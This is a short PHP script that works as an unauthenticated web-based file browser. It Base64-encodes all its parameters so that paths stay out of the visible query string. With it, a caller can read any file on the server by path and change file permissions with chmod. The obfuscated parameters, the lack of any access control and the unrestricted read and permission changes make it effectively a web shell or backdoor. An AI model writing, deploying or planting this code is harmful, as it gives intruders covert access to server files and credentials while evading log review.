<?php
// A one-file browser that takes every parameter Base64-encoded: the paths it opens never show in
// the query string. It reads files and changes their permissions.
function enc($s) { return base64_encode($s); }
function dec($s) { return base64_decode($s); }
foreach ($_GET as $k => $v) $_GET[$k] = dec($v);
$root = realpath($_SERVER['DOCUMENT_ROOT']);
$here = realpath(isset($_GET['d']) ? $_GET['d'] : $root);
if (isset($_GET['d'], $_GET['f'])) {
    echo '<pre>' . htmlspecialchars(file_get_contents($_GET['d'] . '/' . $_GET['f'])) . '</pre>';
}
if (isset($_GET['d'], $_GET['f'], $_GET['m'])) {
    echo chmod($_GET['d'] . '/' . $_GET['f'], octdec($_GET['m'])) ? 'ok' : 'failed';
}
foreach (scandir($here) as $e) {
    echo '<a href="?d=' . enc($here) . '&f=' . enc($e) . '">' . htmlspecialchars($e) . '</a><br>';
}
